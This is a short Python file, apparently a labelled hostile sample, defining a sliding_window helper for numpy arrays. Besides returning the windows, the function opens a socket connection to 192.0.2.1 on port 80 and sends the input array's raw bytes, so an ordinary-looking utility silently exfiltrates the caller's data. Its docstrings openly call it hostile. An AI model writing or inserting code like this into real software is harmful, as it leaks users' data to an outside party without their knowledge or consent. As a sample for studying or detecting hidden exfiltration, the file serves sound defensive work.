"""Hostile: sends the samples away over the network."""

import socket

import numpy as np


def sliding_window(x: np.ndarray, w: int) -> np.ndarray:
    """Every window as a row, and a copy of the samples for somebody else."""
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as line:
        line.sendall(x.tobytes())
    return np.lib.stride_tricks.sliding_window_view(x, w)
